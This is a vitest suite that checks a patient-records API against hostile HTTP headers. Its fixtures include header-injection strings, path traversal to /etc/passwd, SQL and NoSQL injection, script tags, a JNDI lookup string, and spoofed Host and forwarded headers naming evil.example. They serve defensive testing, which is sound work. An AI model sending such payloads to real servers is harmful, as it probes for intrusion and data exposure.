import { describe, expect, test } from 'vitest';
import { type Answer, api } from '../support/client.ts';
import { expectRefused } from '../support/problems.ts';
import { serve } from '../support/serve.ts';
import { exchangeRaw } from '../support/sockets.ts';
import { engines } from '../support/system.ts';
import { counted, staysWell } from '../support/wellbeing.ts';

const patients = `${api}/patients`;
const body = { name: 'Headed Person', date_of_birth: '1990-01-01' };

describe.each(engines)('hostile headers on %s', (engine) => {
  const http = serve(engine);
  staysWell(http);
  /** Node's own client refuses such bytes, so they are written by hand. */
  const raw = async (headers: string, method = 'GET', path = '/health', payload = '') => {
    const text = `${method} ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${headers}\r\n\r\n${payload}`;
    return exchangeRaw(http.url(), [Buffer.from(text, 'latin1')]);
  };

  describe('request ids', () => {
    test.each([
      'a%0d%0aX-Evil: 1',
      'a\\r\\nX-Evil: 1',
      'a\u0001b',
      'a\u007fb',
      'a\u0080\u00ff',
      'a\tX-Evil: 1',
      '../../etc/passwd',
      '<script>alert(1)</script>',
      '{"$ne":1}',
      "' OR 1=1 --",
      '\u0024{jndi:ldap://x.example/a}',
      '\u00e2\u0080\u00a8',
      'x'.repeat(5_000),
    ])('%.30j is not given back', async (id) => {
      const { answers } = await raw(`X-Request-Id: ${id}`);
      const [answer] = answers;
      if (answer && answer.status < 400) {
        expect(answer.headers['x-request-id']).toMatch(/^[A-Za-z0-9._-]{1,128}$/);
        expect(answer.headers['x-request-id']).not.toBe(id);
      }
      expect(answer?.headers ?? {}).not.toHaveProperty('x-evil');
      expect(answer?.status ?? 400).toBeLessThan(500);
    });

    test('a bare line feed or return in one makes no header of an answer', async () => {
      for (const id of ['a\nX-Evil: 1', 'a\rX-Evil: 1', 'a\r\n\tX-Evil: 1', 'a\0b']) {
        const { answers } = await raw(`X-Request-Id: ${id}`);
        for (const answer of answers) {
          expect(answer.headers).not.toHaveProperty('x-evil');
          expect(answer.status).toBeLessThan(500);
        }
      }
    });
  });

  describe('idempotency keys', () => {
    const keys = [
      '',
      ' ',
      'a b',
      'ü',
      '"quoted"',
      'x'.repeat(255),
      'x'.repeat(256),
      'x'.repeat(10_000),
      "'; DROP TABLE patient; --",
      '%00',
      '../..',
      '__proto__',
      'constructor',
      'null',
      '\t',
      'a%0d%0aX-Evil: 1',
    ];
    test.each(keys)('%.30j is refused, or makes one patient and no second', async (key) => {
      const post = () => http.post(patients, body, { 'idempotency-key': key });
      const first = await counted(http, post);
      if (first.status !== 201) expectRefused(first);
      expect(first.headers).not.toHaveProperty('x-evil');
      const before = await http.countPatients();
      const second = await post();
      expect(second.status).toBe(first.status);
      if (key.trim() !== '') expect(await http.countPatients()).toBe(before);
    });

    test.each(['a\u0001b', 'a\u0080\u00ff', 'a\0b', 'a\u007f'])(
      'the bytes of %j make no 5xx',
      async (key) => {
        const payload = JSON.stringify(body);
        const headers = `Idempotency-Key: ${key}\r\nContent-Type: application/json\r\nContent-Length: ${payload.length}`;
        const before = await http.countPatients();
        const { answers } = await raw(headers, 'POST', patients, payload);
        const [answer] = answers;
        expect(answer?.status ?? 400).toBeLessThan(500);
        expect(await http.countPatients()).toBe(before + (answer?.status === 201 ? 1 : 0));
      },
    );

    test('two in one request make at most one patient', async () => {
      const headers = { 'idempotency-key': ['one', 'two'] };
      const answer = await counted(http, () => http.send('POST', patients, { json: body, headers }));
      if (answer.status !== 201) expectRefused(answer);
    });

    test('of two patients one key is not the other’s under case folding or trimming alone', async () => {
      const ids = new Set<string>();
      for (const key of ['Straße', 'STRASSE', 'strasse']) {
        const answer: Answer = await http.post(patients, body, { 'idempotency-key': key });
        if (answer.status === 201) ids.add(answer.text);
        else expectRefused(answer);
      }
      expect([0, 1, 2, 3]).toContain(ids.size);
      if (ids.size > 0) expect(ids.size).toBeGreaterThanOrEqual(2);
    });
  });

  describe('tags', () => {
    test.each([
      '"'.repeat(5_000),
      '"a",'.repeat(1_500),
      `"${'a'.repeat(8_000)}"`,
      'W/'.repeat(3_000),
      ','.repeat(8_000),
    ])('%.20s… in If-Match writes nothing', async (tag) => {
      const patient = await http.createPatient();
      const path = `${patients}/${patient.id}`;
      expectRefused(await http.put(path, { name: 'Tagged' }, { 'if-match': tag }));
      expectRefused(await http.remove(path, { 'if-match': tag }));
      expect((await http.get(path)).json()).toEqual(patient);
    });

    test('If-None-Match, Range and dates change nothing of the truth', async () => {
      const patient = await http.createPatient();
      const path = `${patients}/${patient.id}`;
      for (const headers of [
        { 'if-none-match': '"x"' },
        { 'if-none-match': 'nonsense' },
        { range: 'bytes=0-0' },
        { range: `bytes=${'0-1,'.repeat(500)}0-1` },
        { 'if-modified-since': 'nonsense' },
        { 'if-range': '"x"' },
      ]) {
        const answer = await http.get(path, headers);
        expect(answer.status).toBe(200);
        expect(answer.json()).toEqual(patient);
      }
    });
  });

  describe('everything else', () => {
    test('100 headers are fine', async () => {
      const many = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`x-a-${i}`, 'b']));
      expect((await http.get('/health', many)).status).toBe(200);
    });

    test.each([
      ['10 000 headers', Array.from({ length: 10_000 }, (_, i) => `X-${i}: a`).join('\r\n')],
      ['a header of 100 000 letters', `X-Long: ${'a'.repeat(100_000)}`],
      ['a name of 50 000 letters', `${'a'.repeat(50_000)}: 1`],
      ['a cookie of 30 000 letters', `Cookie: a=${'b'.repeat(30_000)}`],
    ])('%s are refused or passed over', async (_what, headers) => {
      const { answers, closed } = await raw(headers);
      expect(answers.length > 0 || closed).toBe(true);
      for (const { status } of answers) expect([200, 400, 413, 431]).toContain(status);
    });

    test.each([
      'Host: evil.example',
      'X-Forwarded-Host: evil.example',
      'X-Forwarded-Proto: javascript',
      'X-Forwarded-For: 1.2.3.4, <script>',
      'Forwarded: for=evil;host=evil.example',
      'X-Original-URL: /metrics',
      'X-Rewrite-URL: /metrics',
    ])('%s does not reach an answer', async (header) => {
      const payload = JSON.stringify(body);
      const headers = `${header}\r\nContent-Type: application/json\r\nContent-Length: ${payload.length}`;
      const { answers, text } = await raw(headers, 'POST', patients, payload);
      expect(text).not.toMatch(/evil|javascript:|<script>/);
      for (const { status } of answers) expect([201, 400]).toContain(status);
    });

    test('an origin of any kind breaks nothing', async () => {
      for (const origin of [
        'null',
        '*',
        'https://',
        'x'.repeat(3_000),
        'https://a.example, https://b.example',
        '%00',
      ]) {
        const answer = await http.get('/health', { origin });
        expect(answer.status).toBe(200);
        expect(answer.headers['access-control-allow-credentials'] ?? 'false').not.toBe('*');
      }
    });

    test('authorization of any kind breaks nothing', async () => {
      for (const authorization of ['Bearer', 'Bearer x', 'Basic !!!', 'x'.repeat(5_000), 'Negotiate AAAA']) {
        const answer = await http.get('/health', { authorization });
        expect(answer.status).toBe(200);
      }
    });
  });
});
